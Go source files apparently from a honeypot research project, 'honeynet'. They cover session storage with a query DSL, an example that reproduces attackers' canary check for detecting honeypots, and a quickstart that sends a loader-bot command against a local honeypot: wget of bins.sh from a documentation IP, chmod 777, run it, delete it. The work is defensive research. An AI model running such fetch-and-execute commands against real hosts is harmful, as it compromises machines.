	if _, err := srv.Drain("example done"); err != nil {
		log.Fatal(err)
	}

	// Route one: the facade. Open materializes the records (in exact
	// append order) and hands back the same pipeline Simulate would.
	p, err := honeynet.Open(dir)
	if err != nil {
		log.Fatal(err)
	}
	rec := p.World.Store.All()[0]
	fmt.Printf("\nfacade Open: %d session(s); first: kind=%s commands=%d downloads=%d\n",
		p.World.Store.Len(), rec.Kind(), len(rec.Commands), len(rec.Downloads))

	// Route two: the hnquery DSL. Where callers used to hand-roll an
	// opaque Filter closure — defeating every index the store keeps —
	// one statement now compiles to a structured store.Query with real
	// pushdown. The old Rollup becomes a GROUP BY, and because month,
	// kind, and proto live in sealed segment metadata, the aggregate
	// answers with zero block reads. EXPLAIN proves it.
	st, err := store.Open(dir, store.Options{ReadOnly: true})
	if err != nil {
		log.Fatal(err)
	}
	defer st.Close()
	res, err := query.Run(st,
		`EXPLAIN SELECT month, kind, count(*) GROUP BY month, kind ORDER BY month, kind`)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\nEXPLAIN SELECT month, kind, count(*) GROUP BY month, kind:")
	for _, line := range res.Explain {
		fmt.Println("  | " + line)
	}
	for _, row := range res.Rows {
		fmt.Printf("  %s  %-17s  %s\n", row[0], row[1], row[2])
	}

	// Predicates are typed expressions, not closures: the planner sees
	// them, prunes segments by time bounds, routes `ip =` through the
	// Bloom filters, and decodes only the fields the query touches.
	res, err = query.Run(st,
		`SELECT start, ip, user, cmds WHERE login_ok = true AND cmd ~ /wget/`)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\nsessions that logged in and ran wget:")
	for _, row := range res.Rows {
		cells := make([]string, len(row))
		for i, v := range row {
			cells[i] = v.String()
		}
		fmt.Println("  " + strings.Join(cells, "  "))
	}

	// Route three: raw ingest. Group commit makes the append path fast
	// enough to absorb a scanning wave: a burst of records lands at
	// hundreds of thousands per second on one core, each one
	// crash-safe in the WAL within MaxDelay.
	burstDir, err := os.MkdirTemp("", "honeynet-burst-*")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(burstDir)
	bs, err := store.Open(burstDir, store.Options{
		Codec:    store.CodecLZ,
		MaxBatch: 512,
		MaxDelay: 2 * time.Millisecond,
	})
	if err != nil {
		log.Fatal(err)
	}
	const burst = 100_000
	begin := time.Now()
	for i := 0; i < burst; i++ {
		at := time.Date(2021, 5, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Second)
		if err := bs.Append(&session.Record{
			ID:         uint64(i),
			Start:      at,
			End:        at.Add(30 * time.Second),
			HoneypotID: "hp-1",
			ClientIP:   fmt.Sprintf("192.0.2.%d", i%254+1),
			ClientPort: 40000 + i%20000,
			Protocol:   session.ProtoSSH,
			Logins:     []session.LoginAttempt{{Username: "root", Password: "123456"}},
		}); err != nil {
			log.Fatal(err)
		}
	}
	if err := bs.Close(); err != nil { // final seal: everything durable
		log.Fatal(err)
	}
	el := time.Since(begin)
	fmt.Printf("\ningest burst: %d records in %v (%.0f recs/s, group-committed WAL + %s codec)\n",
		burst, el.Round(time.Millisecond), float64(burst)/el.Seconds(), store.CodecLZ)
}
