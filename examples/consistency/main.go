// Consistency: reproduce the stateful honeypot-detection trick of
// section 5 — attackers "generate a random file and verify its presence
// in a subsequent session to test system consistency, as inconsistency
// may signal that the device could be a honeypot" — against both a
// stock node (detected) and one running the persistent-storage
// improvement from the paper's Call for Better Honeypots (not detected).
package main

import (
	"fmt"
	"log"
	"strings"

	"honeynet/internal/honeypot"
	"honeynet/internal/session"
	"honeynet/internal/sshclient"
)

// consistencyCheck plants a canary in one session and verifies it in a
// second, returning the attacker's verdict.
func consistencyCheck(addr string) (honeypotDetected bool, err error) {
	canary := "c4n4ry-7f3a"

	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "pass1"})
	if err != nil {
		return false, err
	}
	if _, err := cli.Exec("echo " + canary + " > /tmp/.sysid"); err != nil {
		return false, err
	}
	cli.Close()

	cli, err = sshclient.Dial(addr, sshclient.Config{User: "root", Password: "pass2"})
	if err != nil {
		return false, err
	}
	defer cli.Close()
	res, err := cli.Exec("cat /tmp/.sysid")
	if err != nil {
		return false, err
	}
	return !strings.Contains(string(res.Output), canary), nil
}

func startNode(persistent bool) (string, func(), error) {
	node, err := honeypot.New(honeypot.Config{
		ID:         "hp-consistency",
		Persistent: persistent,
		Sink:       func(*session.Record) error { return nil },
	})
	if err != nil {
		return "", nil, err
	}
	addr, err := node.ListenSSH("127.0.0.1:0")
	if err != nil {
		return "", nil, err
	}
	return addr, func() { node.Close() }, nil
}

func main() {
	for _, mode := range []struct {
		name       string
		persistent bool
	}{
		{"stock honeypot (fresh filesystem per connection)", false},
		{"persistent honeypot (per-client filesystem retained)", true},
	} {
		addr, stop, err := startNode(mode.persistent)
		if err != nil {
			log.Fatal(err)
		}
		detected, err := consistencyCheck(addr)
		stop()
		if err != nil {
			log.Fatal(err)
		}
		verdict := "attacker verdict: looks like a REAL machine — proceed"
		if detected {
			verdict = "attacker verdict: HONEYPOT DETECTED — canary vanished between sessions"
		}
		fmt.Printf("%-55s -> %s\n", mode.name, verdict)
	}
}
