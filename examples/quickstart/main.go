// Quickstart: boot one honeypot node, attack it over real SSH with the
// bundled client, and inspect the session record the honeynet database
// would store.
package main

import (
	"encoding/json"
	"fmt"
	"log"
	"os"

	"honeynet/internal/honeypot"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
	"honeynet/internal/sshclient"
)

func main() {
	records := make(chan *session.Record, 1)
	node, err := honeypot.New(honeypot.Config{
		ID:       "hp-quickstart",
		Download: simulate.Fetcher(),
		Sink:     func(r *session.Record) error { records <- r; return nil },
	})
	if err != nil {
		log.Fatal(err)
	}
	addr, err := node.ListenSSH("127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	defer node.Close()
	fmt.Println("honeypot listening on", addr)

	// Attack it the way a typical loader bot does.
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "admin"})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("logged in as root (server:", cli.ServerVersion()+")")

	for _, cmd := range []string{
		`uname -a`,
		`cat /proc/cpuinfo | grep name | wc -l`,
		`cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh`,
	} {
		res, err := cli.Exec(cmd)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("$ %s\n%s", cmd, res.Output)
	}
	cli.Close()

	rec := <-records
	fmt.Printf("\nrecorded session: kind=%s commands=%d downloads=%d state_changed=%v\n",
		rec.Kind(), len(rec.Commands), len(rec.Downloads), rec.StateChanged)
	enc := json.NewEncoder(os.Stdout)
	enc.SetIndent("", "  ")
	_ = enc.Encode(rec)
}
