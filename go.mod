module honeynet

go 1.23
