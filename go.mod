module honeynet

go 1.24
