package honeynet

import (
	"bytes"
	"testing"

	"honeynet/internal/analysis"
	"honeynet/internal/session"
)

// TestFacadeSimulateLoadRoundTrip drives the public API end to end:
// generate a dataset, serialize it as JSONL (the cmd/hnsim format),
// reload it through Load, and check the analyses agree.
func TestFacadeSimulateLoadRoundTrip(t *testing.T) {
	p, err := Simulate(SimOptions{Scale: 50000, Seed: 3})
	if err != nil {
		t.Fatal(err)
	}
	orig := analysis.Stats(p.World)
	if orig.Total == 0 {
		t.Fatal("empty simulation")
	}

	var buf bytes.Buffer
	w := session.NewWriter(&buf)
	for _, r := range p.World.Store.All() {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}

	p2, err := Load(&buf)
	if err != nil {
		t.Fatal(err)
	}
	got := analysis.Stats(p2.World)
	if got.Total != orig.Total || got.CommandExec != orig.CommandExec ||
		got.Scouting != orig.Scouting || got.UniqueClientIPs != orig.UniqueClientIPs {
		t.Errorf("stats diverged across JSONL round trip:\norig %+v\ngot  %+v", orig, got)
	}
	// Classification works over reloaded records too.
	t1 := analysis.Table1(p2.World)
	if t1.Total != got.CommandExec {
		t.Errorf("classified %d of %d command sessions", t1.Total, got.CommandExec)
	}
}

func TestLoadRejectsGarbage(t *testing.T) {
	if _, err := Load(bytes.NewBufferString("not json at all\n")); err == nil {
		t.Error("garbage must fail")
	}
}

// TestFacadeQuery runs hnquery-DSL statements through the public
// Query entry point over a store written by Simulate(WithStore).
func TestFacadeQuery(t *testing.T) {
	dir := t.TempDir()
	p, err := Simulate(WithScale(50000), WithSeed(3), WithStore(dir))
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]int64{}
	for _, r := range p.World.Store.All() {
		want[r.Month().Format("2006-01")]++
	}

	res, err := Query(dir, `EXPLAIN SELECT month, count(*) GROUP BY month ORDER BY month`)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != len(want) {
		t.Fatalf("got %d groups, want %d", len(res.Rows), len(want))
	}
	for _, row := range res.Rows {
		if row[1].Int != want[row[0].String()] {
			t.Errorf("month %s: count %d, want %d", row[0].String(), row[1].Int, want[row[0].String()])
		}
	}
	// A kind/protocol/month-only aggregate over a sealed store answers
	// from metadata: the EXPLAIN plan must say so.
	if res.Stats.Mode != "metadata" || res.Stats.BlocksRead != 0 {
		t.Errorf("expected metadata-only plan, got %+v", res.Stats)
	}
	if len(res.Explain) == 0 {
		t.Error("EXPLAIN returned no plan")
	}

	if _, err := Query(dir, `SELECT nosuch`); err == nil {
		t.Error("bad statement must fail")
	}
}
