package honeynet

import (
	"bytes"
	"testing"

	"honeynet/internal/analysis"
	"honeynet/internal/session"
)

// TestFacadeSimulateLoadRoundTrip drives the public API end to end:
// generate a dataset, serialize it as JSONL (the cmd/hnsim format),
// reload it through Load, and check the analyses agree.
func TestFacadeSimulateLoadRoundTrip(t *testing.T) {
	p, err := Simulate(SimOptions{Scale: 50000, Seed: 3})
	if err != nil {
		t.Fatal(err)
	}
	orig := analysis.Stats(p.World)
	if orig.Total == 0 {
		t.Fatal("empty simulation")
	}

	var buf bytes.Buffer
	w := session.NewWriter(&buf)
	for _, r := range p.World.Store.All() {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}

	p2, err := Load(&buf)
	if err != nil {
		t.Fatal(err)
	}
	got := analysis.Stats(p2.World)
	if got.Total != orig.Total || got.CommandExec != orig.CommandExec ||
		got.Scouting != orig.Scouting || got.UniqueClientIPs != orig.UniqueClientIPs {
		t.Errorf("stats diverged across JSONL round trip:\norig %+v\ngot  %+v", orig, got)
	}
	// Classification works over reloaded records too.
	t1 := analysis.Table1(p2.World)
	if t1.Total != got.CommandExec {
		t.Errorf("classified %d of %d command sessions", t1.Total, got.CommandExec)
	}
}

func TestLoadRejectsGarbage(t *testing.T) {
	if _, err := Load(bytes.NewBufferString("not json at all\n")); err == nil {
		t.Error("garbage must fail")
	}
}
